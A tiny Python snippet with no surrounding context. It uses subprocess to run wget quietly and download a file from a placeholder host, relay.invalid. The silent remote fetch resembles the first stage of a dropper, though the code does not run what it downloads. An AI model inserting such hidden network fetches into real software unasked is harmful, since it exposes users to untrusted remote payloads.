import subprocess

subprocess.call(["wget", "-q", "http://relay.invalid/p"])
